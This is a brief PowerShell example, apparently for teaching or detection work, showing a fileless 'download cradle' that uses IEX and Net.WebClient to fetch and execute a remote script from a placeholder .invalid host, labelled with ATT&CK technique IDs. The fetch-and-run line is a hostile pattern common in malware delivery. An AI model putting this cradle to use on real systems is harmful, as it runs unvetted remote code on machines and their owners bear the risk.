# Shows: a download cradle, code fetched and run without touching the disk (ATT&CK T1059.001, T1105).
# The host does not exist (.invalid, RFC 2606), so nothing can be downloaded.
[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12
$source = 'https://downloads.example.invalid/tools/inventory.ps1'
IEX (New-Object Net.WebClient).DownloadString($source)
